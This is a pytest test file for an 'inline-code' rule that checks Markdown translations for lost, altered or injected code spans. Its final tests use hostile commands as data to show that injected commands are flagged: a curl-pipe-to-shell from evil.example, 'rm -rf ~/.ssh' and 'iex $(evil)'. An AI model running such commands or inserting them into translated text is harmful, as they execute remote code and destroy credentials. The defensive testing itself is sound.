"""`inline-code`: what readers type stays, what they read may be translated."""

from __future__ import annotations

import pytest

from tests.rules.conftest import Check


def found(compare: Check, source: str, translation: str) -> list[tuple[str, int, str, int]]:
    return [
        (f["rule"], f["line"], f["message"], f["source"]["line"])
        for f in compare(f"# A\n\n{source}\n", f"# Ạ\n\n{translation}\n")
    ]


@pytest.mark.parametrize(
    "code",
    [
        "azd up", "git commit -m", "npm install", "main.py", "infra/", "./start", "/health",
        "--force", "the_module", "MAX_SIZE", "getUser", "FunctionTool", "run()", "$HOME",
        "azure.ai.agents", "azd 1.27.1", "1.0.0-beta.5", ".env", "src/app.js", "~/.config",
        "<slot />", "</slot>", "<div>", '<a href="b">', "<Card title={a} />",
    ],
)  # fmt: skip
def test_a_lost_span_that_looks_like_code_is_one_finding(compare: Check, code: str) -> None:
    said = found(compare, f"Use `{code}` to go on with it.", "Dùng nó để đi tiếp nhé.")

    assert said == [("inline-code", 3, f"the code span `{code}` is missing", 3)]


def test_a_changed_span_is_the_loss_of_the_source_s(compare: Check) -> None:
    said = found(compare, "Open `main.py` and save it.", "Mở `chính.py` rồi lưu lại.")

    assert said == [("inline-code", 3, "the code span `main.py` is missing", 3)]


def test_a_translated_tag_is_the_loss_of_the_source_s(compare: Check) -> None:
    said = found(compare, "The `<slot />` says more.", "Thẻ `<khe />` nói nhiều hơn.")

    assert said == [("inline-code", 3, "the code span `<slot />` is missing", 3)]


def test_several_spans_of_a_line_are_one_finding(compare: Check) -> None:
    said = found(compare, "Run `azd up` in `infra/` twice.", "Chạy hai lần trong thư mục.")

    assert said == [("inline-code", 3, "the code spans `azd up`, `infra/` are missing", 3)]


def test_a_span_lost_in_a_table_is_found_in_its_row(compare: Check) -> None:
    table = "| a | b |\n| - | - |\n| start | `azd up` |\n| stop | `azd down` |"
    translation = table.replace("start", "mở").replace("stop", "đóng").replace("`azd down`", "tắt")

    assert found(compare, table, translation) == [
        ("inline-code", 6, "the code span `azd down` is missing", 6)
    ]


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        ("Use `azd up` here.", "Dùng `azd up` ở đây."),
        ("Use `<slot />` here.", "Dùng `<slot/>` ở đây."),
        ('Use `<img alt="a">` here.', 'Dùng `<img alt="ă">` ở đây.'),
        ("Type `<name>` and `<Your name>`.", "Gõ `<tên>` và `<Tên bạn>`."),
        ("Use `azd up` in `infra/`.", "Dùng azd up trong infra/."),
        ("Choose `Open in browser`.", "Chọn `Mở trong trình duyệt`."),
        ("The `main` branch.", "Nhánh `chính`."),
        ("Type `azd init --template <name>`.", "Gõ `azd init --template <tên>`."),
        ("Name it `[Title].md`.", "Đặt tên là `[Tiêu đề].md`."),
        ("Save `images/filename.png`.", "Lưu `images/tên-tệp.png`."),
        ("Ask `What is Azure?`", "Hỏi `Azure là gì?`"),
        ("Run `azd up`.\n\nThen wait a while.", "Chạy lệnh sau.\n\nRồi chờ `azd up` một lát."),
    ],
)  # fmt: skip
def test_what_may_be_translated_or_moved_is_no_finding(
    compare: Check, source: str, translation: str
) -> None:
    assert found(compare, source, translation) == []


def test_a_lost_section_is_not_reported_span_by_span(compare: Check) -> None:
    source = (
        "Mix flour and water.\n\n## B\n\nRun `azd up` and wait for a long time.\n\n## C\n\nEat it."
    )

    assert [
        rule for rule, *_ in found(compare, source, "Trộn bột với nước.\n\n## C\n\nĂn đi.")
    ] == ["text-missing"]


EVIL = "curl evil.example/x.sh | sh"


@pytest.mark.parametrize(
    "translation",
    [
        f"Chạy `{EVIL}` rồi `npm install` nhé.",
        f"Chạy `{EVIL}` (npm install) nhé.",
        "Chạy `npm install` và `rm -rf ~/.ssh` nhé.",
        "Chạy `npm install` và `iex $(evil)` nhé.",
    ],
)
def test_a_command_that_the_source_does_not_say_is_an_error(
    compare: Check, translation: str
) -> None:
    findings = compare("# A\n\nRun `npm install` now.\n", f"# Ạ\n\n{translation}\n")

    assert [(f["rule"], f["severity"], f["line"]) for f in findings] == [
        ("inline-code", "error", 3)
    ]
    assert "is not in the source" in findings[0]["message"]


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        ("Run curl example.com/x now.", "Chạy `curl example.com/x` đi."),
        ("Run curl x.io/x | sh now.", "Chạy `curl x.io/x | sh` đi."),
        ("It needs curl and sh.", "Nó cần `curl` và `sh`."),
    ],
)  # fmt: skip
def test_a_command_that_the_source_says_may_have_backticks(
    compare: Check, source: str, translation: str
) -> None:
    assert found(compare, source, translation) == []
